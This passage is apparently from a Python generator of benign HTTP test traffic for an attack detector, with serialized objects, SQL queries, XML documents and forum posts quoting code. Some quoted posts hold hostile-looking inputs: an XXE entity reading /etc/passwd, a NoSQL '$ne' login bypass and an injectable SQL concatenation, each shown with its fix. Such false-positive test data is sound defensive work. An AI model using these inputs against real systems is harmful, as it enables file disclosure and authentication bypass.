           "address": {"$type": "Contoso.Shipping.Models.Address, Contoso.Shipping", "street": "1 Union Sq", "city": "Seattle"}, "items": {"$type": "System.Collections.Generic.List`1[[Contoso.Shipping.Models.Item, Contoso.Shipping]], System.Private.CoreLib", "$values": [{"sku": "A-1"}]}})
    B.json("jsonnet-app", "api", "/api/workflows/steps", {"$type": "Northwind.Workflow.Steps.ApprovalStep, Northwind.Workflow", "approverRole": "Finance", "threshold": 5000})
    B.json("json-ld", "express", "/api/seo/structured-data", {"@context": "https://schema.org", "@type": "Product", "name": "Executive Chair", "offers": {"@type": "Offer", "price": "249.00", "priceCurrency": "EUR"},
           "aggregateRating": {"@type": "AggregateRating", "ratingValue": "4.6", "reviewCount": "89"}})
    B.json("protobuf-json", "go", "/v1/projects/p1/operations:batchGet", {"operations": [{"name": "op-1", "metadata": {"@type": "type.googleapis.com/google.cloud.run.v2.Revision", "name": "web-00042"}},
           {"name": "op-2", "response": {"@type": "type.googleapis.com/google.protobuf.Duration", "value": "3.5s"}}]})
    B.json("activitypub", "express", "/users/ana/inbox", {"@context": "https://www.w3.org/ns/activitystreams", "type": "Create", "actor": "https://social.example/users/bo",
           "object": {"type": "Note", "content": "<p>select your fighter: rust or go?</p>"}}, ctype="application/activity+json")
    B.get("php-prefs", "php", "/index.php", [("route", "account/home")], cookie_extra="prefs=" + quote(php_s({"lang": "en", "theme": "dark", "per_page": 25}), safe=""))
    B.post("php-prefs", "php", "/admin/options.php", [("option_name", "widget_recent_posts"), ("option_value", php_s({2: {"title": "Latest", "number": 5, "show_date": True}, "_multiwidget": 1}))])
    B.json("woo-import", "wp", "/wp-json/wc/v3/products/batch", {"create": [{"name": "Mug", "meta_data": [{"key": "_legacy_attrs", "value": php_s(["color", "size"])}]}]})
    B.get("rails-session", "rails", "/account", cookie_extra="_legacy_session=" + quote(b64(ruby_marshal_benign(4821, "Signed in successfully.")), safe=""))
    B.json("rails-cache", "rails", "/api/v1/cache/warm", {"entry": b64(ruby_marshal_benign(77, "Profile updated"))})
    skl = pickle_p2_object("sklearn.linear_model._logistic", "LogisticRegression", {"penalty": "l2", "C": 1.0, "max_iter": 200, "fit_intercept": True, "solver": "lbfgs", "_sklearn_version": "1.4.2"})
    pdf = pickle_p2_object("pandas.core.frame", "DataFrame", {"_metadata": "x", "attrs": "y"})
    B.upload_bytes("mlflow", "flask", "/api/2.0/mlflow-artifacts/artifacts/3/run1/artifacts/model/model.pkl", [("file", skl, "model.pkl", "application/octet-stream")])
    B.upload_bytes("mlflow", "flask", "/api/models/upload", [("name", "churn-v4", None, None), ("model", pdf, "features.pkl", "application/octet-stream")])
    B.json("highcharts", "express", "/export", {"infile": {"title": {"text": "Revenue"}, "series": [{"data": [1, 3, 2, 4]}], "yAxis": {"labels": {"format": "{value} %"}}},
           "callback": "function(chart){ chart.renderer.text('Draft', 100, 100).attr({zIndex: 5}).add(); }", "type": "image/png", "width": 800})
    B.json("jackson-app", "spring", "/api/notifications", {"@class": "com.example.notify.EmailNotification", "to": "ops@example.com", "subject": "Nightly job finished"})
    B.json("jackson-app", "spring", "/api/shapes", ["com.example.geo.Circle", {"radius": 4.5}])
    B.body("pyyaml-safe", "flask", "/api/v1/workflows", "name: nightly\nschedule: '0 2 * * *'\nsteps:\n  - run: python -m etl.extract --since 24h\n  - run: python -m etl.load --table orders\nnotify: [ops@example.com]\n", "application/x-yaml")


def benign_lookalikes(B):
    # Shell-looking text that is not a command.
    for i, fn in enumerate(["Q3 report (final) & notes.pdf", "résumé; draft 2.docx", "Tom & Jerry | S01E02.mp4", "budget_2024$(copy).xlsx", "IMG_0042 (1).HEIC", "a&b_partners.csv"]):
        B.upload("filenames", ["django", "rails", "express", "laravel", "spring", "aspnet"][i], "/files/upload", [("file", "placeholder content\n", fn, "application/octet-stream")])
    B.json("scheduler", "api", "/api/v1/jobs", {"name": "cleanup", "cron": "*/15 * * * *", "timezone": "Europe/Paris", "command": "cleanup_sessions"})
    B.post("ping-tool", "php", "/tools/ping.php", [("ip", "192.0.2.77"), ("count", "10")])
    B.get("dns-tool", "flask", "/api/dns/lookup", [("host", "mail.example.com"), ("type", "MX")])
    B.json("media", "express", "/api/media/convert", {"filename": "holiday-photo (2).jpg", "format": "png", "width": 640})
    B.json("diag", "api", "/api/diagnostics/traceroute", {"target": "www.example.org", "maxHops": 15})
    B.json("export", "api", "/api/reports/export", {"reportId": 44, "fileName": "Sales Q2 (EMEA & APAC).xlsx", "format": "xlsx"})
    B.post("backup-agent", "aspnet", "/Admin/Backup.aspx", [("folder", "C:\\Backups\\%COMPUTERNAME%\\daily"), ("retention", "14"), ("exclude", "*.tmp;*.bak;~$*")])
    B.post("router-ntp", "router", "/apply.cgi", [("ntp_server", "pool.ntp.org"), ("submit_button", "index"), ("action", "Apply")])
    B.post("texts", "rails", "/posts", [("post[title]", "Price guide: $(10-20) per item"), ("post[body]", "Use the `cat` command? No — I mean our cat, Whiskers, who sleeps 5 hours a day & snores.")])
    B.json("repos", "go", "/api/v1/repos/mirror", {"remote": "git@git.example.com:acme/api.git", "branch": "release/2.4"})
    B.json("versions", "express", "/api/deps/check", {"constraints": {"react": ">=18.2.0 <19", "lodash": "^4.17.21", "left-pad": "~1.3.0"}})
    # Path-looking values that stay inside their folders.
    B.get("s3-browser", "api", "/api/storage/list", [("prefix", "photos/2024/06/"), ("delimiter", "/")])
    B.get("file-browser", "express", "/api/files", [("path", "/home/alice/projects/app/src/main.rs")])
    B.post("restore", "aspnet", "/Restore.aspx", [("source", "C:\\Users\\alice\\Documents\\Budget 2024.xlsx"), ("target", "D:\\Restore\\alice\\")])
    B.raw_get("webdav", "php", "/remote.php/dav/files/alice/Photos/Trip%20(2023)/IMG_0042.jpg")
    B.raw_get("compare", "rails", "/acme/api/compare/v1.2.0...v1.3.0")
    B.get("docs", "django", "/docs/", [("template", "guides/getting-started.html")])
    B.get("i18n", "express", "/i18n", [("lang", "pt-BR")])
    B.get("download", "php", "/download.php", [("file", "invoices/2024/INV-0042.pdf")])
    B.get("download", "flask", "/download", [("filename", "report-2024-06.csv")])
    B.get("portal", "jee", "/portal/page", [("page", "news/2024/june.jsp")])
    B.json("markdown", "express", "/api/wiki/pages/setup", {"content": "See [the parent README](../README.md) and [config docs](../../docs/config.md). Logs live in `/var/log/app/`."}, method="PUT")
    B.json("monitoring", "go", "/api/checks", {"name": "load", "type": "file", "path": "/proc/loadavg", "threshold": 4})
    B.get("windows-paths", "aspnet", "/Handlers/Image.ashx", [("src", "products/chairs/exec-chair_800.webp")])
    # SQL words in ordinary text.
    for i, t in enumerate(["Please update my address; I moved to 12 Union St.", "Can I drop off the table at the store?", "Order by Friday and select express delivery",
                           "Sleep tracker shows 5h - is that normal?", "I'd like to delete my old review from 2019", "The 'benchmark' price was 1=1.5 EUR"]):
        B.post("support", ["rails", "django", "laravel", "aspnet", "spring", "php"][i], "/support/contact", [("name", "Pat"), ("email", "pat@example.com"), ("message", t)])
    # XML that is ordinary: SOAP, XML-RPC, WebDAV, CalDAV, feeds, SAML, SVG/plist with public DTDs.
    B.body("soap", "jee", "/InventoryService", '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:inv="http://example.com/inventory"><soapenv:Header/><soapenv:Body><inv:GetStock><inv:sku>WID-2231</inv:sku></inv:GetStock></soapenv:Body></soapenv:Envelope>',
           "text/xml; charset=utf-8", extra=[("SOAPAction", "\"urn:GetStock\"")])
    B.body("xmlrpc", "wp", "/xmlrpc.php", '<?xml version="1.0"?>\n<methodCall><methodName>wp.getPosts</methodName><params><param><value><int>1</int></value></param><param><value><string>editor</string></value></param><param><value><string>s3cret</string></value></param></params></methodCall>', "text/xml")
    B.body("webdav", "php", "/remote.php/dav/files/alice/", '<?xml version="1.0" encoding="utf-8"?>\n<d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><d:prop><d:getlastmodified/><d:getcontentlength/><oc:fileid/></d:prop></d:propfind>',
           "application/xml", method="PROPFIND", extra=[("Depth", "1")])
    B.body("caldav", "php", "/remote.php/dav/calendars/alice/work/", '<?xml version="1.0" encoding="utf-8"?>\n<c:calendar-query xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav"><d:prop><d:getetag/><c:calendar-data/></d:prop><c:filter><c:comp-filter name="VCALENDAR"><c:comp-filter name="VEVENT"><c:time-range start="20240601T000000Z" end="20240701T000000Z"/></c:comp-filter></c:comp-filter></c:filter></c:calendar-query>',
           "application/xml", method="REPORT", extra=[("Depth", "1")])
    B.body("atom", "rails", "/api/feeds/preview", '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>Release notes</title><entry><title>2.4: faster UNION queries in reports</title><updated>2024-06-03T10:00:00Z</updated></entry></feed>',
           "application/atom+xml")
    B.body("order-xml", "spring", "/api/orders/import", '<?xml version="1.0" encoding="UTF-8"?>\n<order><customer>Siobhán O\'Sullivan &amp; Co.</customer><sku>WID-2231</sku><qty>2</qty></order>', "application/xml")
    B.body("internal-entity", "jee", "/api/docs/render", '<?xml version="1.0"?>\n<!DOCTYPE note [<!ENTITY company "Acme GmbH"><!ENTITY year "2024">]>\n<note><to>&company;</to><body>Annual report &year;</body></note>', "application/xml")
    saml = ('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0" IssueInstant="2024-06-03T10:00:00Z" Destination="https://sp.example.com/saml/acs">'
            '<saml:Issuer>https://idp.example.com</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
            '<saml:Assertion ID="_d71a3a8e9fcc45c9e9d248ef7049393fc8f04e5f75" Version="2.0" IssueInstant="2024-06-03T10:00:00Z"><saml:Subject><saml:NameID>ana@example.com</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>')
    B.post("saml", "jee", "/saml/acs", [("SAMLResponse", b64(saml.encode())), ("RelayState", "/home")])
    svg = ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
           '<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24"><path d="M12 2l3 7h7l-5.5 4 2 7L12 16l-6.5 4 2-7L2 9h7z" fill="#f5b301"/></svg>')
    B.upload("svg", "php", "/cms/assets", [("file", svg, "star.svg", "image/svg+xml"), ("alt", "rating star", None, None)])
    plist = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n'
             '<plist version="1.0"><dict><key>PayloadDisplayName</key><string>Corp Wi-Fi</string><key>PayloadType</key><string>Configuration</string><key>PayloadVersion</key><integer>1</integer></dict></plist>')
    B.upload("plist", "rails", "/mdm/profiles/upload", [("profile", plist, "wifi.mobileconfig", "application/x-apple-aspen-config")])
    xhtml = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
             '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Chapter 1</title></head><body><p>It was a dark and stormy night.</p></body></html>')
    B.upload("epub", "django", "/books/chapters/upload", [("file", xhtml, "chapter1.xhtml", "application/xhtml+xml")])
    gpx = '<?xml version="1.0"?>\n<gpx version="1.1" creator="Garmin" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>Morning run</name><trkseg><trkpt lat="52.37" lon="4.89"><ele>2</ele><time>2024-06-03T06:00:00Z</time></trkpt></trkseg></trk></gpx>'
    B.upload("gpx", "express", "/api/activities/import", [("file", gpx, "run.gpx", "application/gpx+xml")])
    docbook = ('<?xml version="1.0"?>\n<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd">\n'
               '<book xmlns:xi="http://www.w3.org/2001/XInclude"><title>Admin Guide</title><xi:include href="chapters/install.xml"/><xi:include href="chapters/upgrade.xml"/></book>')
    B.upload("docbook", "jee", "/docs/build", [("source", docbook, "book.xml", "application/xml")], dev=True, desc="DocBook source with XIncludes of its own chapters")
    B.body("xslt-report", "spring", "/api/reports/transform", '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/invoices"><table><xsl:for-each select="invoice[total &gt; 100]"><tr><td><xsl:value-of select="number"/></td><td><xsl:value-of select="format-number(total, \'#,##0.00\')"/></td></tr></xsl:for-each></table></xsl:template></xsl:stylesheet>',
           "application/xslt+xml", dev=True, desc="report stylesheet")


SQL_EDITOR = [
    ("superset", "data", "/api/v1/sqllab/execute/", lambda s: {"database_id": 1, "sql": s, "schema": "public", "runAsync": False, "select_as_cta": False, "queryLimit": 1000}),
    ("metabase-native", "data", "/api/dataset", lambda s: {"database": 2, "type": "native", "native": {"query": s, "template-tags": {}}}),
    ("redash", "data", "/api/query_results", lambda s: {"data_source_id": 3, "query": s, "max_age": 0}),
    ("grafana-sql", "go", "/api/ds/query", lambda s: {"queries": [{"refId": "A", "datasource": {"uid": "pg1", "type": "grafana-postgresql-datasource"}, "rawSql": s, "format": "time_series"}], "from": "now-24h", "to": "now"}),
    ("trino", "api", "/v1/statement", None),
    ("bigquery-api", "api", "/bigquery/v2/projects/acme-analytics/queries", lambda s: {"query": s, "useLegacySql": False, "maxResults": 1000}),
    ("snowflake-api", "api", "/api/v2/statements", lambda s: {"statement": s, "timeout": 60, "warehouse": "REPORTING_WH", "role": "ANALYST"}),
    ("databricks-api", "api", "/api/2.0/sql/statements", lambda s: {"statement": s, "warehouse_id": "abc123", "wait_timeout": "30s"}),
    ("druid", "api", "/druid/v2/sql", lambda s: {"query": s, "resultFormat": "objectLines"}),
    ("clickhouse-http", "go", "/", None),
]
SQL_STATEMENTS = [
    ("postgres", "SELECT date_trunc('day', created_at) AS day, count(*) FILTER (WHERE status = 'paid') AS paid, sum(total)::numeric(12,2) AS revenue\nFROM orders\nWHERE created_at >= now() - interval '30 days'\nGROUP BY 1 ORDER BY 1;"),
    ("postgres", "WITH ranked AS (\n  SELECT customer_id, total, row_number() OVER (PARTITION BY customer_id ORDER BY created_at DESC) AS rn FROM orders\n)\nSELECT c.email, r.total FROM ranked r JOIN customers c ON c.id = r.customer_id WHERE r.rn = 1 AND c.email NOT LIKE '%@example.org';"),
    ("mysql", "SELECT p.sku, p.name, SUM(oi.qty) AS units\nFROM `order_items` oi JOIN `products` p ON p.id = oi.product_id\nWHERE oi.created_at BETWEEN '2024-04-01' AND '2024-06-30'\nGROUP BY p.sku, p.name ORDER BY units DESC LIMIT 20;"),
    ("mssql", "SELECT TOP 50 c.CustomerName, SUM(o.Amount) AS Total\nFROM dbo.Orders o WITH (NOLOCK) INNER JOIN dbo.Customers c ON c.Id = o.CustomerId\nWHERE o.OrderDate >= DATEADD(month, -3, GETDATE())\nGROUP BY c.CustomerName ORDER BY Total DESC;"),
    ("oracle", "SELECT department_id, LISTAGG(last_name, ', ') WITHIN GROUP (ORDER BY last_name) AS staff\nFROM hr.employees WHERE hire_date > ADD_MONTHS(SYSDATE, -24)\nGROUP BY department_id FETCH FIRST 10 ROWS ONLY"),
    ("bigquery", "SELECT channel, COUNT(DISTINCT user_pseudo_id) AS users\nFROM `acme-analytics.analytics_123.events_*`\nWHERE _TABLE_SUFFIX BETWEEN '20240501' AND '20240531' AND event_name = 'purchase'\nGROUP BY channel ORDER BY users DESC"),
    ("snowflake", "SELECT region, SUM(amount) AS revenue, APPROX_COUNT_DISTINCT(customer_id) AS buyers\nFROM sales.public.orders\nWHERE order_date >= DATEADD(day, -30, CURRENT_DATE())\nGROUP BY region QUALIFY ROW_NUMBER() OVER (ORDER BY revenue DESC) <= 5"),
    ("spark", "SELECT store_id, percentile_approx(basket_value, 0.5) AS median_basket\nFROM lakehouse.sales.baskets\nWHERE dt >= date_sub(current_date(), 7)\nGROUP BY store_id ORDER BY median_basket DESC LIMIT 25"),
    ("druid", "SELECT TIME_FLOOR(__time, 'PT1H') AS hour, COUNT(*) AS hits FROM web_logs WHERE __time >= CURRENT_TIMESTAMP - INTERVAL '1' DAY AND status >= 500 GROUP BY 1 ORDER BY 1"),
    ("clickhouse", "SELECT toStartOfHour(ts) AS h, countIf(status >= 500) AS errors, quantile(0.95)(duration_ms) AS p95 FROM logs.requests WHERE ts > now() - INTERVAL 1 DAY GROUP BY h ORDER BY h FORMAT JSON"),
    ("trino", "SELECT o.orderstatus, count(*) AS n FROM tpch.sf1.orders o WHERE o.orderdate > DATE '1998-01-01' GROUP BY 1"),
    ("cockroach", "SELECT region, count(*) FROM users AS OF SYSTEM TIME '-10s' GROUP BY region ORDER BY 2 DESC"),
]


def benign_dev_content(B):
    for i, (dialect, sql) in enumerate(SQL_STATEMENTS):
        area, stack, path, wrap = SQL_EDITOR[i % len(SQL_EDITOR)]
        if dialect == "clickhouse":
            area, stack, path, wrap = SQL_EDITOR[-1]
        if dialect == "trino":
            area, stack, path, wrap = SQL_EDITOR[4]
        if area == "clickhouse-http":
            B.get(area, stack, path, [("query", sql), ("database", "logs")], dev=True, desc="ClickHouse HTTP interface query")
        elif area == "trino":
            B.body(area, stack, path, sql, "text/plain", dev=True, desc="Trino client statement", extra=[("X-Trino-User", "analyst"), ("X-Trino-Catalog", "tpch")])
        else:
            B.json(area, stack, path, wrap(sql), dev=True, desc="%s statement from a SQL editor" % dialect)
    B.get("soql", "api", "/services/data/v60.0/query", [("q", "SELECT Id, Name, Industry FROM Account WHERE Name LIKE 'Acme%' ORDER BY CreatedDate DESC LIMIT 10")], dev=True, desc="SOQL")
    B.get("influx", "go", "/query", [("db", "telegraf"), ("q", "SELECT mean(\"usage_user\") FROM \"cpu\" WHERE time > now() - 1h GROUP BY time(5m), \"host\"")], dev=True, desc="InfluxQL")
    B.json("kusto", "api", "/v1/rest/query", {"db": "Telemetry", "csl": "requests | where timestamp > ago(1h) and resultCode startswith \"5\" | summarize count() by bin(timestamp, 5m), cloud_RoleName"}, dev=True, desc="KQL")
    B.post("splunk", "api", "/services/search/jobs", [("search", "search index=web sourcetype=access_combined status>=500 | stats count by uri_path | sort -count | head 20"), ("output_mode", "json")], dev=True, desc="SPL")
    B.json("cql-console", "spring", "/api/cql/execute", {"keyspace": "shop", "statement": "SELECT user_id, ts, event FROM events_by_user WHERE user_id = 42 AND ts > '2024-06-01' LIMIT 100;"}, dev=True, desc="CQL statement in an admin console")
    # Forum, Q&A, help desk and code-review posts quoting code.
    posts = [
        ("forum", "django", "/forum/topics/812/reply", "Why does my job hang? I used `WAITFOR DELAY '00:00:05'` between batches in T-SQL:\n\n```sql\nWHILE @i < 10\nBEGIN\n  EXEC dbo.ProcessBatch @i;\n  WAITFOR DELAY '00:00:05';\n  SET @i += 1;\nEND\n```"),
        ("forum", "rails", "/questions/4471/answers", "In PostgreSQL you can load server-side files only as superuser:\n\n```sql\nCOPY staging_orders FROM '/data/orders.csv' WITH (FORMAT csv, HEADER true);\n```\nFrom a client use `\\copy` instead."),
        ("forum", "laravel", "/community/posts", "MySQL tip: `SELECT ... INTO OUTFILE '/tmp/export.csv' FIELDS TERMINATED BY ','` writes on the DB server, not your laptop. `secure_file_priv` limits where."),
        ("forum", "flask", "/forum/posts", "Jinja question: how do I loop with an index?\n\n```jinja\n{% for item in items %}\n  {{ loop.index }}. {{ item.name|title }}\n{% endfor %}\n```"),
        ("helpdesk", "php", "/tickets/create", "Our LDAP sync misses users. Filter in the connector is:\n(&(objectClass=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2))(memberOf=CN=Staff,OU=Groups,DC=corp,DC=example,DC=com))\nIs the OID part right?"),
        ("helpdesk", "aspnet", "/Tickets/New.aspx", "Script we run on the build agents (PowerShell):\n\nGet-ChildItem C:\\agent\\_work -Directory | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item -Recurse -Force\nInvoke-WebRequest https://packages.example.com/agent.zip -OutFile $env:TEMP\\agent.zip"),
        ("wiki", "spring", "/wiki/pages/ops-runbook", "## Restart\n```bash\nsudo systemctl restart shop-web && journalctl -u shop-web -n 50 --no-pager\nfor f in /var/log/shop/*.log; do gzip -9 \"$f\"; done\n```"),
        ("code-review", "go", "/api/v4/projects/12/merge_requests/88/notes", "Nit: prefer a parameterised query here instead of string concat:\n```go\nrows, err := db.QueryContext(ctx, \"SELECT id FROM users WHERE email = $1\", email)\n```\nThe old code did `\"... WHERE email = '\" + email + \"'\"` which is injectable."),
        ("code-review", "rails", "/acme/api/pull/311/comments", "```ruby\n# before\nUser.where(\"name = '#{params[:name]}'\")\n# after\nUser.where(name: params[:name])\n```"),
        ("forum", "express", "/forum/posts", "Handlebars helper to print JSON: `{{{json this}}}` with\n```js\nHandlebars.registerHelper('json', ctx => JSON.stringify(ctx));\n```"),
        ("forum", "php", "/forum/posts", "Twig: `{{ product.price|number_format(2, ',', '.') }} €` and `{% if app.user %}Hi {{ app.user.username }}{% endif %}`"),
        ("forum", "spring", "/forum/posts", "SpEL in @Value: `@Value(\"#{systemProperties['user.region'] ?: 'eu'}\")` and in @PreAuthorize: `@PreAuthorize(\"hasRole('ADMIN') or #id == principal.id\")`"),
        ("lms", "django", "/courses/secure-coding/lessons/7/notes", "XXE example from the lesson (do not deploy):\n<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\nFix: disable DTDs (`factory.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true)`)."),
        ("forum", "flask", "/forum/posts", "Don't unpickle untrusted data: `pickle.loads(request.data)` runs any `__reduce__`. Use json, or `hmac` sign the blob."),
        ("forum", "rails", "/questions/9001/answers", "YAML.load on user input is dangerous (`!ruby/object` tags). Use `YAML.safe_load(str, permitted_classes: [Date])`."),
        ("code-review", "express", "/repos/acme/web/pulls/77/comments", "```js\n// bad\nconst user = await db.collection('users').findOne({ email: req.body.email, password: req.body.password });\n// good: cast to string\nconst email = String(req.body.email);\n```\n`{\"$ne\": null}` would log anyone in."),
        ("notebook", "flask", "/api/contents/analysis/cleanup.ipynb", json.dumps({"type": "notebook", "content": {"cells": [{"cell_type": "code", "source": "import os, subprocess\nfiles = [f for f in os.listdir('data') if f.endswith('.csv')]\nsubprocess.run(['gzip', '-k', *files], cwd='data', check=True)", "metadata": {}, "outputs": []}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}})),
        ("jenkinsfile", "jee", "/job/shop-web/configSubmit", "pipeline {\n  agent any\n  stages {\n    stage('Test') { steps { sh 'npm ci && npm test' } }\n    stage('Deploy') { when { branch 'main' } steps { sh \"helm upgrade --install shop ./chart --set image.tag=${env.GIT_COMMIT}\" } }\n  }\n}"),
        ("dockerfile", "go", "/api/builds/lint", "FROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\nCOPY . /app\nRUN pip install -r /app/requirements.txt\nCMD [\"gunicorn\", \"-b\", \"0.0.0.0:8000\", \"app:app\"]"),
        ("forum", "aspnet", "/Forum/Reply.aspx", "cmd one-liner to find big files: `for /r C:\\logs %f in (*.log) do @if %~zf gtr 100000000 echo %f`"),
        ("forum", "django", "/forum/posts", "Cypher: `MATCH (a:Person)-[:KNOWS*1..3]->(b) WHERE a.name = $name RETURN DISTINCT b.name` — how to limit paths?"),
        ("forum", "go", "/forum/posts", "Mongo aggregation with $lookup and $unwind:\n```js\ndb.orders.aggregate([{ $lookup: { from: 'customers', localField: 'cid', foreignField: '_id', as: 'c' } }, { $unwind: '$c' }])\n```"),
        ("forum", "spring", "/forum/posts", "Freemarker: `<#list users as u>${u.name?html}<#sep>, </#list>` and avoid `?new` on untrusted templates."),
        ("forum", "laravel", "/forum/posts", "Blade vs Smarty: `{$user.name|escape}` in Smarty, `{{ $user->name }}` in Blade, `{!! $html !!}` unescaped."),
        ("forum", "express", "/forum/posts", "XPath for Jenkins API: `/api/xml?xpath=//job[color='red']/name&wrapper=x`"),
        ("forum", "flask", "/forum/posts", "fish shell: `for f in *.txt; mv $f (basename $f .txt).md; end` and `set -gx PATH ~/.local/bin $PATH`"),
        ("forum", "rails", "/forum/posts", "zsh glob qualifiers: `ls **/*(.m-7)` lists files modified in the last week; `rm -- *(.L0)` removes empty files."),
    ]
    for area, stack, path, text in posts:
        if area == "notebook":
            B.json(area, stack, path, text, dev=True, method="PUT", desc="notebook saved with shell calls")
        elif area in ("jenkinsfile",):
            B.post(area, stack, path, [("script", text), ("Jenkins-Crumb", rtok(32, HEX))], dev=True, desc="pipeline script saved in the job config")
        elif area == "dockerfile":
            B.body(area, stack, path, text, "text/plain", dev=True, desc="Dockerfile lint")
        elif stack in ("aspnet", "php", "django", "laravel"):
            B.post(area, stack, path, [("title", "Question"), ("body", text)], dev=True, desc="code quoted in a post")
        else:
            B.json(area, stack, path, {"body": text, "format": "markdown"}, dev=True, desc="code quoted in a post")


# Benign values for the attack sites' own parameters: the same placements, ordinary values.
PARAM_VALUES = {
    "category": ["garden-furniture", "Kids' toys", "Books & Media"], "id": ["1042", "77"], "ordering": ["-created_at", "price"],
    "email": ["ana.ortega@example.com", "o'brien@example.ie"], "customer_id": ["5521"], "order": ["created_at desc", "name"],
    "username": ["jdoe", "maria.o'neil"], "tenant": ["acme-eu"], "org_id": ["311"], "sort": ["price,desc", "-updated_at", "name"],
    "X-Tenant-ID": ["t_9f2c1a"], "X-Account-Id": ["40211"], "X-Sort": ["created_at:desc"], "status": ["shipped", "active"],
    "customer": ["4410"], "brand": ["Levi's", "Marks & Spencer"], "user": ["jdoe", "kai"], "term": ["Jazz & Blues nights"],
    "post_id": ["9931"], "orderby": ["date", "title"], "priority": ["high"], "agent_id": ["12"], "sort_by": ["updated_at"],
    "currency": ["EUR", "GBP"], "cart_id": ["88123"], "X-Forwarded-For": ["198.51.100.23", "203.0.113.9, 198.51.100.4"],
    "X-Client-Id": ["web-2.4.1"], "X-Order": ["asc"], "region": ["EMEA", "north-west"], "StoreID": ["231"],
    "SortExpression": ["LastName DESC"], "ctl00$MainContent$UserName": ["CORP\\jdoe", "jdoe@corp.example.com"],
    "lastName": ["O'Connor", "Smith-Jones"], "customerId": ["1029"], "orderBy": ["createdAt desc"], "Culture": ["en-GB", "pt-BR"],
    "CompanyId": ["17"], "GridSort": ["Amount DESC"], "$filter": ["Status eq 'Open' and Total gt 100"], "$skip": ["40"],
    "$orderby": ["OrderDate desc"], "policyNo": ["POL-2024-00912"], "claimId": ["88231"], "P101_USERNAME": ["JDOE"],
    "department": ["R&D", "Sales (EMEA)"], "employeeId": ["7702"], "last_name": ["O'Connor", "Nuñez"], "employee_id": ["101"],
    "X-Branch-Code": ["LDN01"], "X-Ledger-Id": ["4410"], "tag": ["todo", "c++"], "owner": ["alice"], "listId": ["12"],
    "filter": ["kernel", "dhcp"], "author": ["Brontë", "O'Brian"], "entry": ["55"], "event": ["signup", "add_to_cart"],
    "project_id": ["3"], "step": ["checkout"], "funnel_id": ["31"], "country": ["NZ", "DE"], "widget": ["12"],
    "segment": ["enterprise", "smb & mid-market"], "report_id": ["118"], "account": ["ACC-2231"], "order_by": ["revenue"],
    "branch": ["Leeds"], "acctNo": ["00123456"], "sortCol": ["balance"], "zipCode": ["90210", "SW1A 1AA"], "holderName": ["José Álvarez"],
    "policyId": ["77"], "memo": ["Refund for order #1042 (duplicate charge)"], "bucket": ["2024-06"], "product_line": ["Outdoor & Garden"],
    "store_id": ["231"], "year": ["2024"], "channel": ["paid_search"], "cohort": ["2024-05"], "campaign": ["Summer Sale '24"],
    "advertiser_id": ["5521"], "X-Customer-Id": ["cus_9f2c1"],
    "name": ["Ada", "Zoë O'Hara"], "note": ["Thanks for your business! Payment due in 30 days.", "Leave at the back door"],
    "display_name": ["Zoë 🌻", "J. R. \"Bob\" Dobbs"], "title": ["Q2 revenue (draft)", "Learning XML"], "nick": ["kiki"],
    "subject": ["Question about invoice #4471"], "headline": ["Summer {Sale} – up to 50% off"], "body": ["Dear {{ customer.name }}, your order is ready."],
    "s": ["summer dresses"], "lang": ["en", "de"], "summary": ["Printer on 3rd floor jams"], "message": ["Please call me back after 5pm"],
    "X-Display-Name": ["María"], "greeting": ["Happy birthday, Sam! 🎂"], "comment": ["Great service — 5 stars!"], "theme": ["dark"],
    "message[body]": ["See you at 10:30?"], "template": ["{{name}}\n{{address_line1}}\n{{postcode}}", "default"], "Body": ["Welcome to the team!"],
    "tpl": ["{{ .Name }} has {{ len .Items }} items"], "text": ["{{ .Labels.instance }} is down"], "body_html": ["<p>Shipping takes 3–5 days.</p>"],
    "spring.cloud.function.routing-expression": ["'uppercase'"], "filters": ["edge-eu"], "q": ["summer", "Smith"],
    "condition": ["order.total > 100"], "Content-Type": ["multipart/form-data; boundary=----x"], "expression": ["user.age >= 18"],
    "expr": ["2*(3+4)", "order.qty * 2"], "when": ["value > 0.9"], "form:email": ["li.wei@example.com"], "msg": ["Session expired"],
    "nickname": ["li"], "formula": ["price * 1.2"], "transform": ["upcase"],
    "ip": ["192.0.2.10"], "host": ["example.com"], "filename": ["holiday photo.jpg", "export.csv"], "X-Export-Name": ["orders_2024-06"],
    "label": ["nightly"], "remote": ["https://git.example.com/acme/api.git"], "ping_addr": ["192.0.2.1"], "admuser": ["admin"],
